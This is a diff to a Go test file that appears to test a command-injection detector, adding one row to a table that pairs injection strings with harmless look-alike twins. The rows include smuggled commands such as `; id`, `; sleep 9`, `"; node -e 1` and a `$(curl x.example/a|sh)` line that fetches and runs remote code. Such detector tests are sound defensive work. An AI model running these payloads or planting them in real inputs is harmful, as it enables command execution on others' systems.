@@ -48,6 +48,7 @@ func FuzzOrdinary(f *testing.F) {
 }
 
 var rows = []languagetest.Row{
+	{Shows: "the end of a string", Attack: `"; node -e 1`, Twin: `"node": tree.For(`},
 	{Shows: "a lonely command in a fence", Attack: "so it was said before\n```\n; id\n```\nthanks", Twin: "so it was said before\n```\nid; name\n```\nthanks"},
 	{Shows: "a substitution of a pipe on its own line", Attack: "Dear all, it was nice.\nWe liked the lake.\nThe food was good.\nBye.\n$(curl x.example/a|sh)", Twin: "Dear all, it was nice.\nWe liked the lake.\nThe food was good.\nBye.\n$(document).ready(x)"},
 	{Shows: "a command in an element", Attack: "<p>; sleep 9</p>", Twin: "<p>sleep 9</p>"},
